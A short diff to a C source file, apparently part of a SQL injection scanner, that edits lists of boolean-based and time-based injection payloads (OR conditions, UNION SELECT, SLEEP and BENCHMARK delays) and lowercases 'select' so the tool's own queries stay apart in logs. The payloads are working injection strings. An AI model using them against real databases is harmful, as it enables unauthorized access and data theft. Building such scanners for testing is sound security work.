@@ -17,7 +17,7 @@
 #define TRUE_PART "7193=7193"
 #define FALSE_PART "7193=7194"
 
-/* {}: the part. */
+/* {}: the part. "select" in small letters: in capitals the log may have none, since those are our own statements. */
 static const char *const pairs[] = {
 	"1 OR {}",
 	"1) OR ({}",
@@ -31,7 +31,7 @@ static const char *const pairs[] = {
 	"x\\' OR {} -- ",
 	"\xbf' OR {} -- ",
 	"x'/**/OR/**/{}/**/",
-	"x' UNION SELECT 1 WHERE {} -- ",
+	"x' union select 1 where {} -- ",
 	"(CASE WHEN {} THEN 1 ELSE 9 END)",
 };
 
@@ -39,9 +39,9 @@ static const char *const slow[] = {
 	"1 OR SLEEP(8)",
 	"x' OR SLEEP(8) -- ",
 	"x') OR SLEEP(8)#",
-	"x' OR (SELECT SLEEP(8)) OR 'a'='a",
+	"x' or (select sleep(8)) or 'a'='a",
 	"x\" OR SLEEP(8) -- ",
-	"1;SELECT SLEEP(8)",
+	"1;select sleep(8)",
 	"x'; DO SLEEP(8); -- ",
 	"x' OR BENCHMARK(2000000000,MD5(1)) -- ",
 };
